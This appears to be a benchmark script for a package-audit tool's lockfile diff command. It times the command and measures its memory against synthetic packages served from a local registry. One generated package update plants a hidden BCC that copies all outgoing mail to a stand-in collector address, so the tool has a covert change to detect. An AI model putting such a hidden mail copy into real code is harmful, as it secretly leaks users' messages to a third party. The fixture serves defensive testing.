// diff --lockfiles over an update of many packages: processor time, and the most memory that the command and its parsers held at one time, beside
// that of a tenth of the packages. Packages are generated and served from loopback; every tenth one changes what its code does, and one
// sends mail to a hidden recipient from now on, which must be found.
//   node bench/lockfiles.mjs [--packages 500] [--files 10] [--kib 30]
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseArgs } from 'node:util';
import { packTarball } from '../fixtures/managers/generator/tarball.mjs';

const isCommand = process.argv[1] === import.meta.filename;
const { values } = parseArgs({ ...(isCommand ? {} : { args: [] }), options: { packages: { type: 'string', default: '500' }, files: { type: 'string', default: '10' }, kib: { type: 'string', default: '30' } } });
const [count, files, kib] = [values.packages, values.files, values.kib].map(Number);
const VERSIONS = ['1.0.0', '1.1.0'];
const CLI = join(import.meta.dirname, '..', 'dist', 'cli.js');

/** Code of one file: functions that differ from file to file, as much of it as asked for. */
function code(name, at, version) {
  const lines = ["'use strict';"];
  for (let line = 0, size = 0; size < (kib * 1024) / files; line += 1) {
    const text = `exports.f${line} = function f${line}(a, b) { const key = ${JSON.stringify(`${name}-${at}-${line}`)}; return b ? a[key] + ${line * at} : require('./file${(at + 1) % files}.js'); };`;
    size += text.length;
    lines.push(text);
  }
  // One file in five changes.
  if (version === '1.1.0' && at % 5 === 0) lines.push(`exports.added = ${at};`);
  return lines.join('\n');
}

const MAIL = "const nodemailer = require('nodemailer');\nexports.send = async ({ to, subject, text }) => nodemailer.createTransport({}).sendMail({ to, subject, text, bcc: 'copy@collector.example' });\n";
const ASKS = "exports.load = () => fetch('https://updates.example/list.json');\n";

function tarball(name, number, version) {
  const sources = Object.fromEntries(Array.from({ length: files }, (_, at) => [`file${at}.js`, code(name, at, version)]));
  const manifest = { name, version, main: 'file0.js', ...(number === 7 ? { dependencies: { nodemailer: '^6.0.0' } } : {}) };
  return packTarball({ 'package.json': JSON.stringify(manifest), ...sources, ...(version === '1.1.0' && number === 7 ? { 'mail.js': MAIL } : {}), ...(version === '1.1.0' && number % 10 === 0 ? { 'load.js': ASKS } : {}) });
}

async function startRegistry() {
  const made = new Map();
  const pack = (name, version) => {
    const key = `${name}@${version}`;
    if (!made.has(key)) made.set(key, tarball(name, Number(name.slice(4)), version));
    return made.get(key);
  };
  let url = '';
  const server = createServer((request, response) => {
    const [, name, rest] = /^\/(pkg-\d+)(?:\/(.+))?$/.exec(request.url) ?? [];
    if (name === undefined) return response.writeHead(404, { 'content-type': 'application/json' }).end('{}');
    const packed = /-\/pkg-\d+-(.+)\.tgz$/.exec(rest ?? '')?.[1];
    if (packed !== undefined) return response.writeHead(200, { 'content-type': 'application/octet-stream' }).end(pack(name, packed));
    const document = (version) => {
      const bytes = pack(name, version);
      const dist = { tarball: `${url}${name}/-/${name}-${version}.tgz`, integrity: `sha512-${createHash('sha512').update(bytes).digest('base64')}`, shasum: createHash('sha1').update(bytes).digest('hex') };
      return { name, version, main: 'file0.js', ...(name === 'pkg-7' ? { dependencies: { nodemailer: '^6.0.0' } } : {}), dist };
    };
    const body = rest === undefined ? { name, 'dist-tags': { latest: '1.1.0' }, versions: Object.fromEntries(VERSIONS.map((version) => [version, document(version)])) } : document(rest);
    return response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(body));
  });
  await new Promise((done) => { server.listen(0, '127.0.0.1', done); });
  url = `http://127.0.0.1:${server.address().port}/`;
  // Packing is no part of what is measured.
  for (let number = 0; number < count; number += 1) for (const version of VERSIONS) pack(`pkg-${number}`, version);
  return { url, close: () => server.close() };
}

function lockfile(url, packages, version) {
  const names = Array.from({ length: packages }, (_, number) => `pkg-${number}`);
  const entries = names.map((name) => [`node_modules/${name}`, { version, resolved: `${url}${name}/-/${name}-${version}.tgz` }]);
  return JSON.stringify({ name: 'bench', lockfileVersion: 3, packages: { '': { dependencies: Object.fromEntries(names.map((name) => [name, version])) }, ...Object.fromEntries(entries) } });
}

/** Bytes that a process and all below it hold now; 0 where the system does not tell. */
function residentBelow(pid) {
  try {
    const own = Number(/^VmRSS:\s+(\d+)/m.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1] ?? 0) * 1024;
    const children = readdirSync(`/proc/${pid}/task`).flatMap((task) => readFileSync(`/proc/${pid}/task/${task}/children`, 'utf8').trim().split(' ').filter((text) => text !== ''));
    return own + children.reduce((sum, child) => sum + residentBelow(Number(child)), 0);
  } catch {
    return 0;
  }
}

/** Seconds of processor time of a process and all below it, those that have ended too; proc(5), in hundredths on every usual Linux. */
function cpuBelow(pid) {
  const fields = readFileSync(`/proc/${pid}/stat`, 'utf8').replace(/^.*\) /, '').split(' ');
  const own = fields.slice(11, 15).reduce((sum, text) => sum + Number(text), 0) / 100;
  const children = readdirSync(`/proc/${pid}/task`).flatMap((task) => readFileSync(`/proc/${pid}/task/${task}/children`, 'utf8').trim().split(' ').filter((text) => text !== ''));
  return own + children.reduce((sum, child) => sum + cpuBelow(Number(child)), 0);
}

async function measure(url, packages) {
  const folder = mkdtempSync(join(tmpdir(), 'mcp-audit-bench-'));
  for (const [at, version] of VERSIONS.entries()) {
    mkdirSync(join(folder, String(at)));
    writeFileSync(join(folder, String(at), 'package-lock.json'), lockfile(url, packages, version));
  }
  const began = process.hrtime.bigint();
  const child = spawn(process.execPath, [CLI, 'diff', '--lockfiles', '0/package-lock.json', '1/package-lock.json', '--registry', url, '--no-cache', '--json'], { cwd: folder, env: { PATH: process.env.PATH, HOME: folder, NODE_NO_WARNINGS: '1' }, stdio: ['ignore', 'pipe', 'pipe'] });
  let [peak, own, cpu, stdout, stderr] = [0, 0, 0, '', ''];
  const watch = setInterval(() => {
    peak = Math.max(peak, residentBelow(child.pid));
    try {
      own = Math.max(own, Number(/^VmHWM:\s+(\d+)/m.exec(readFileSync(`/proc/${child.pid}/status`, 'utf8'))?.[1] ?? 0) * 1024);
      cpu = Math.max(cpu, cpuBelow(child.pid));
    } catch {
      // It has ended.
    }
  }, 20);
  child.stdout.setEncoding('utf8').on('data', (text) => { stdout += text; });
  child.stderr.on('data', (text) => { stderr += text; });
  const exitCode = await new Promise((done) => { child.on('close', done); });
  clearInterval(watch);
  rmSync(folder, { recursive: true, force: true });
  const seconds = Number(process.hrtime.bigint() - began) / 1e9;
  const report = stdout === '' ? undefined : JSON.parse(stdout);
  if (exitCode !== 1 || report?.lockfileChanges?.compared !== packages || !report.findings.some(({ package: of, locations }) => of?.name === 'pkg-7' && locations[0].path.endsWith('mail.js'))) throw new Error(`a wrong answer (exit ${exitCode}): ${stderr.slice(0, 500)}${JSON.stringify(report?.lockfileChanges?.compared)} ${JSON.stringify(report?.coverage.problems?.slice(0, 3))}`);
  return { packages, seconds, cpu, peak, own, findings: report.findings.length, differences: report.differences.length, bytes: stdout.length };
}

/** A tenth of the packages, then all: time and memory of each. Nothing is kept from one to the next. */
export async function* lockfileUpdates() {
  const registry = await startRegistry();
  try {
    for (const packages of [Math.max(20, Math.round(count / 10)), count]) yield await measure(registry.url, packages);
  } finally {
    registry.close();
  }
}

/** C4: processor time a package, and the most memory of the command alone and with its parsers. */
export async function lockfileUpdateGoals() {
  const updates = [];
  for await (const update of lockfileUpdates()) updates.push(update);
  const [few, many] = updates;
  const mib = (bytes) => Math.round(bytes / 2 ** 20);
  return [
    { id: `C4 ${many.packages} packages, ms of processor time each`, figure: many.cpu * 1000 / many.packages, detail: `${many.seconds.toFixed(0)} s in all; of ${few.packages} packages ${(few.cpu * 1000 / few.packages).toFixed(0)} ms each` },
    { id: `C4 ${many.packages} packages, peak of the command, MiB`, figure: mib(many.own), detail: `of ${few.packages} packages ${mib(few.own)}` },
    { id: `C4 ${many.packages} packages, peak with its parsers, MiB`, figure: mib(many.peak), detail: `of ${few.packages} packages ${mib(few.peak)}` },
  ];
}

if (isCommand) {
  for await (const { packages, seconds, cpu, peak, own, findings, differences, bytes } of lockfileUpdates()) {
    process.stdout.write(`${String(packages).padStart(6)} packages  ${seconds.toFixed(1).padStart(6)} s  processor ${cpu.toFixed(1)} s, ${(cpu * 1000 / packages).toFixed(0)} ms each  peak ${(own / 2 ** 20).toFixed(0)} MiB, with its parsers ${(peak / 2 ** 20).toFixed(0)} MiB  ${findings} findings, ${differences} differences, report ${(bytes / 1024).toFixed(0)} KiB\n`);
  }
}
